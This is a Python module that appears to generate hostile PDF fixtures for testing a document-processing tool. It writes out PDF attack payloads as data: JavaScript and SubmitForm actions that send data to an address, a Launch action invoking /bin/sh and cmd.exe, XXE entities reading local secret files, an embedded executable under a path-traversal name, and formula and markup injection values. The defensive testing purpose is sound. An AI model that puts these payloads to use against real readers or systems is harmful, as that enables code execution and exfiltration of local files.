"""PDFs that want something done: scripts, programs, files fetched; and words that are meant for other eyes."""

from __future__ import annotations

from collections.abc import Iterator

from hostile.making import ESCAPE, FORGED, FORMULAS, MARKUP, READ, TURNED, Made
from hostile.pdfs import SOUND, handmade, shown_at, stream

_PADDING = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")  # of PDF passwords


def files(secret: str, address: str) -> Iterator[Made]:
    """All of them."""
    asks = f"/S/URI/URI({address}/pdf)"
    does = {
        "javascript": "/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('" + address + "'\\))",
        "launch": "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "far": f"/S/GoToR/F(file://{secret})/D[0/Fit]",
        "sends": f"/S/SubmitForm/F<</FS/URL/F({address}/form)>>",
        "asks": asks,
    }
    for name, action in does.items():
        yield Made(f"action-{name}.pdf", _catalogue(b"/OpenAction<<%s>>" % action.encode()))
    yield Made("link-javascript.pdf", _link(b"/S/URI/URI(javascript:alert\\('foreign'\\))"))
    yield Made("xfa-entities.pdf", _xfa(secret, address))
    yield Made("xmp-entities.pdf", _xmp(secret))
    yield Made("file-inside.pdf", _attached(secret))
    yield Made("picture-from-a-file.pdf", _outside(secret))
    yield Made("properties.pdf", _properties())
    yield Made("formulas.pdf", _said(*FORMULAS))
    yield Made("markup.pdf", _said(MARKUP, f"Lesson: {MARKUP} in Turin should be text.", "[x](javascript:alert(1))"))
    yield Made("escapes.pdf", _said(ESCAPE, f"\n{FORGED}", TURNED))
    yield Made("fields.pdf", _fields(MARKUP, *FORMULAS, ESCAPE, TURNED, "x" * 100_000))
    yield Made("locked.pdf", _locked(), "encrypted")
    whole = handmade(SOUND, *[stream(shown_at(700))] * 30)
    yield Made("cut-off.pdf", whole[: len(whole) // 2], "corrupt")
    yield Made("no-end.pdf", whole[:-200], "corrupt")
    yield Made("head-only.pdf", b"%PDF-1.7\n", "corrupt|unknown-format|empty")
    yield Made("tables-of-places-in-a-circle.pdf", handmade(SOUND).replace(b"/Root", b"/Prev %d/Root" % handmade(SOUND).find(b"xref\n0")))  # fmt: skip
    yield Made("root-is-a-page.pdf", handmade(SOUND).replace(b"/Root 1 0 R", b"/Root 10 0 R"), "corrupt|read|cut")
    yield Made("length-lies.pdf", handmade(SOUND).replace(b"/Length ", b"/Length 99999999"), "read|corrupt|empty")


def _catalogue(more: bytes, objects: dict[int, bytes] | None = None) -> bytes:
    return handmade(SOUND, more={1: b"<</Type/Catalog/Pages 2 0 R%s>>" % more, **(objects or {})})


def _link(action: bytes) -> bytes:
    link = b"<</Type/Annot/Subtype/Link/Rect[72 690 400 720]/A<<%s>>>>" % action
    return handmade(SOUND, more={5000: link}).replace(b"/Contents 11", b"/Annots[5000 0 R]/Contents 11")


def _xfa(secret: str, address: str) -> bytes:
    xml = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM "{address}/xfa">]><xdp>&a;&b;</xdp>'
    return _catalogue(b"/AcroForm<</Fields[]/XFA 5000 0 R>>", {5000: stream(xml.encode())})


def _xmp(secret: str) -> bytes:
    xml = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a;</x:xmpmeta>'
    return _catalogue(b"/Metadata 5000 0 R", {5000: stream(xml.encode(), b"/Type/Metadata/Subtype/XML")})


def _attached(secret: str) -> bytes:
    """A program inside, under a name that leads out of a folder, and one that is named only."""
    spec = b"<</Type/Filespec/F(../../../../tmp/owned.exe)/EF<</F 5001 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[(a) 5000 0 R (b) <</Type/Filespec/F(%s)>>]>>>>" % secret.encode()
    return _catalogue(names, {5000: spec, 5001: stream(b"MZ" + b"\0" * 100, b"/Type/EmbeddedFile")})


def _outside(secret: str) -> bytes:
    """A page whose text is said to stand in another file."""
    return handmade(SOUND, f"<</Length 0/F(file://{secret})>>\nstream\n\nendstream".encode())


def _properties() -> bytes:
    told = b"/Title(%s)/Author(%s)/Subject(%s)" % tuple(
        text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        for text in (MARKUP + ESCAPE, FORMULAS[0], f"x\n{FORGED}")
    )
    return handmade(SOUND, more={5000: b"<<%s>>" % told}).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 5000 0 R")


def _said(*lines: str) -> bytes:
    """Lines of any letters, by way of a font that says which letter each sign stands for."""
    letters = sorted({letter for line in lines for letter in line})
    code = {letter: n + 1 for n, letter in enumerate(letters)}
    pairs = b"".join(b"<%02x> <%s>\n" % (n, letter.encode("utf-16-be").hex().encode()) for letter, n in code.items())
    table = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n%d beginbfchar\n%sendbfchar\nendcmap" % (len(code), pairs)  # fmt: skip
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 5001 0 R>>"
    shown = b"".join(
        b"BT /G 10 Tf 72 %d Td <%s> Tj ET\n" % (600 - 30 * n, bytes(code[letter] for letter in line).hex().encode())
        for n, line in enumerate(lines)
    )
    content = handmade(stream(shown_at(700, READ) + shown), more={5000: font, 5001: stream(table)})
    return content.replace(b"/Font<</F 3 0 R>>", b"/Font<</F 3 0 R/G 5000 0 R>>")


def _fields(*values: str) -> bytes:
    """Form fields filled in with these."""
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(f%d)/V<%s>/Rect[72 %d 500 %d]/P 10 0 R>>"
    made = {
        5000 + n: field % (n, b"feff" + value.encode("utf-16-be").hex().encode(), 600 - 30 * n, 620 - 30 * n)
        for n, value in enumerate(values)
    }
    places = b" ".join(b"%d 0 R" % number for number in made)
    content = _catalogue(b"/AcroForm<</Fields[%s]>>" % places, made)
    return content.replace(b"/Contents 11", b"/Annots[%s]/Contents 11" % places)


def _locked() -> bytes:
    """With an owner's and a user's password (any: what they are made of is noise here, so none opens it)."""
    lock = b"<</Filter/Standard/V 2/R 3/Length 128/P -3904/O<%s>/U<%s>>>" % ((_PADDING.hex().encode(),) * 2)
    ident = b"/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]/Encrypt 5000 0 R"
    return handmade(SOUND, more={5000: lock}).replace(b"/Root 1 0 R", b"/Root 1 0 R" + ident)
